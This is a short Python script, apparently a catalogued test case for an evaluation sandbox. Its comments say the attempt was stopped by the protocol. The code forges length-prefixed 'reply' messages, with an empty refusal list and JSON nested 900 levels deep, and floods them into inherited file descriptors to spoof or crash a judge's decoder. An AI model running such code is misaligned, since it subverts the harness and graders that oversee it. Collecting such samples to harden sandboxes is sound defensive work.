# tries: a value nested just not deep enough for the parser, but for the decoder
# stopped-by: protocol
# wins: judge
# naive: trusting
import os
import struct

node = '["list",' * 900 + "0" + "]" * 900
text = (
    '{"kind":"reply","refused":[],"output":%s,"inputs":["list"],"values":["list"],"gradients":["dict"]}'
    % node
).encode()
for fd in range(3, 64):
    try:
        for _ in range(10):
            os.write(fd, struct.pack("<IQ", len(text), 0) + text)
    except OSError:
        pass
